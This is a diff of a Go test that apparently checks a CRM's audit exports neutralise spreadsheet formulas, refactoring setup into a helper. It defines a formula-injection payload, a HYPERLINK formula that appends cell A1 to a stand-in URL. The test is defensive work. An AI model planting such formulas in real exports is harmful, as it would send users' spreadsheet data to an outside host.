@@ -25,17 +25,7 @@ import (
 func TestAuditExportsNeutraliseFormulas(t *testing.T) {
 	ctx := context.Background()
 	url := crmtest.NewDatabase(t)
-	store, err := crm.Open(ctx, url)
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { store.Close() })
-	if err := store.Migrate(ctx, nil); err != nil {
-		t.Fatal(err)
-	}
-	if err := store.SetSuppressionKey(ctx, crmtest.SuppressionKey); err != nil {
-		t.Fatal(err)
-	}
+	store := crmtest.NewStoreAt(t, url)
 	e := bottest.New(t, bottest.Options{Store: store})
 
 	const formula = `=HYPERLINK("http://x/?"&A1,"ok")`
